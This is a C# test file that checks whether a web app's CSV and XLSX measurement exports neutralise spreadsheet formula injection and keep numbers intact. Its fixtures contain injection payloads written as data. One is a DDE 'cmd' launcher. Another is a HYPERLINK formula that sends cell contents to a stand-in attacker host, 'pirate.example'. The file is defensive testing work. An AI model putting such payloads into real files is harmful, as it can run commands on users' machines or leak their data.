using System.Globalization;
using System.Net;
using Cap.Domain.Steering;
using Cap.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using static Cap.Web.Tests.Infrastructure.TestHttp;

namespace Cap.Web.Tests.Indicators.Export;

/// <summary>
/// The measurements export, read back from the files the real page produces: text cells that a spreadsheet would run
/// as formulas are neutralised, numbers (negative ones too) stay numbers, characters XML forbids never break the XLSX.
/// </summary>
public abstract class ExportSafetyTests<TFactory>(TFactory factory) : IClassFixture<TFactory> where TFactory : CapWebFactory
{
    private const string Slug = "signal-sante";

    /// <summary>The indicator's name is a formula too.</summary>
    private const string IndicatorName = "=cmd|' /C calc'!A0";
    private const string Author = "@SUM(1+1)*cmd";

    private static readonly (DateOnly Date, decimal Value, string Comment)[] Measurements =
    [
        (new DateOnly(2025, 1, 1), 10m, "=HYPERLINK(\"https://pirate.example/?d=\"&A1;\"Cliquez ici\")"),
        (new DateOnly(2025, 2, 1), -2.5m, "+cmd|' /C calc'!A0"),
        (new DateOnly(2025, 3, 1), 3m, "@SUM(A1:A9)"),
        (new DateOnly(2025, 4, 1), -12m, "-2+3"),
        (new DateOnly(2025, 5, 1), 4m, "\t=1+1"),
        (new DateOnly(2025, 6, 1), 5m, "\r=1+1"),
        (new DateOnly(2025, 7, 1), 6m, "une remarque ordinaire, = au milieu"),
    ];

    /// <summary>Control characters and a non-character: invalid in XML 1.0, they are dropped from the XLSX.</summary>
    private static readonly (DateOnly Date, decimal Value, string Comment) Invalid = (new DateOnly(2025, 8, 1), 7m, "a\u0001b\u001Fc\uFFFEd\uFFFF");

    private async Task EnsureIndicatorAsync() => await QueryAsync(factory, async db =>
    {
        var product = await db.Products.SingleAsync(p => p.Slug == Slug);
        if (await db.Indicators.AnyAsync(i => i.ProductId == product.Id && i.Name == IndicatorName))
        {
            return 0;
        }
        var indicator = new Indicator
        {
            ProductId = product.Id, Kind = IndicatorKind.Impact, Name = IndicatorName, Unit = IndicatorUnit.Free, CustomUnit = "-m²",
            Direction = WantedDirection.Down, Baseline = -5, BaselineDate = new DateOnly(2025, 1, 1), Target = -20,
            TargetDate = new DateOnly(2026, 1, 1), Frequency = UpdateFrequency.Monthly, Position = 998,
        };
        foreach (var (date, value, comment) in Measurements.Append(Invalid))
        {
            indicator.Measurements.Add(new Measurement { ProductId = product.Id, Date = date, Value = value, Comment = comment, Source = MeasurementSource.Entry, AuthorName = Author });
        }
        db.Indicators.Add(indicator);
        return await db.SaveChangesAsync();
    });

    [Fact]
    public async Task Csv_export_neutralises_formula_texts_and_keeps_negative_numbers_as_numbers()
    {
        await EnsureIndicatorAsync();
        using var client = factory.CreateClientFor(Demo.Lecteur);

        using var response = await client.GetAsync($"/produits/{Slug}/indicateurs/export/csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var records = ExportFiles.ReadCsv(await response.Content.ReadAsByteArrayAsync());
        var mine = records.Where(r => r[0] == "'" + IndicatorName).ToList();
        Assert.Equal(Measurements.Length + 1, mine.Count);
        foreach (var (date, value, comment) in Measurements)
        {
            var row = mine.Single(r => r[7] == date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture));
            Assert.Equal(SpreadsheetExpectation.Csv(comment), row[9]);
            Assert.Equal(value.ToString(CultureInfo.GetCultureInfo("fr-FR")), row[8]);
            Assert.Equal("'" + Author, row[11]);
            Assert.Equal("'-m²", row[2]);
            Assert.Equal(["-5", "-20"], row[4..6]);
        }
        Assert.Equal("-2,5", mine.Single(r => r[7] == "2025-02-01")[8]);
        Assert.Equal("-12", mine.Single(r => r[7] == "2025-04-01")[8]);
        Assert.Equal("une remarque ordinaire, = au milieu", mine.Single(r => r[7] == "2025-07-01")[9]);
        ExportFiles.AssertNoCsvCellRunsAsAFormula(records);
    }

    [Fact]
    public async Task Xlsx_export_neutralises_formula_texts_keeps_numbers_and_drops_characters_xml_forbids()
    {
        await EnsureIndicatorAsync();
        using var client = factory.CreateClientFor(Demo.Lecteur);

        using var response = await client.GetAsync($"/produits/{Slug}/indicateurs/export/xlsx");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = ExportFiles.ReadXlsx(await response.Content.ReadAsByteArrayAsync());
        var mine = rows.Where(r => r[0].Text == "'" + IndicatorName).ToList();
        Assert.Equal(Measurements.Length + 1, mine.Count);
        foreach (var (date, value, comment) in Measurements)
        {
            var row = mine.Single(r => r[7].Text == date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture));
            Assert.Equal(SpreadsheetExpectation.Xlsx(comment), row[9].Text.ReplaceLineEndings("\n"));
            Assert.False(row[9].IsNumber);
            Assert.True(row[8].IsNumber);
            Assert.Equal(value, decimal.Parse(row[8].Text, CultureInfo.InvariantCulture));
            Assert.Equal(("-5", true), (row[4].Text, row[4].IsNumber));
            Assert.Equal("'" + Author, row[11].Text);
        }
        Assert.Equal("abcd", mine.Single(r => r[7].Text == "2025-08-01")[9].Text);
        ExportFiles.AssertNoXlsxTextCellRunsAsAFormula(rows);
    }
}

public sealed class ExportSafetyTestsSqlite(SqliteCapFactory factory) : ExportSafetyTests<SqliteCapFactory>(factory);

public sealed class ExportSafetyTestsPostgres(PostgresCapFactory factory) : ExportSafetyTests<PostgresCapFactory>(factory);

/// <summary>What a text looks like once read back: an apostrophe before a formula-like start, nothing else changed.</summary>
internal static class SpreadsheetExpectation
{
    private static bool StartsLikeAFormula(string text) => text.Length > 0 && text[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    public static string Csv(string text) => StartsLikeAFormula(text) ? "'" + text : text;

    /// <summary>XML turns a carriage return into a line feed when it is read: compared on normalised line ends.</summary>
    public static string Xlsx(string text) => Csv(text).ReplaceLineEndings("\n");
}
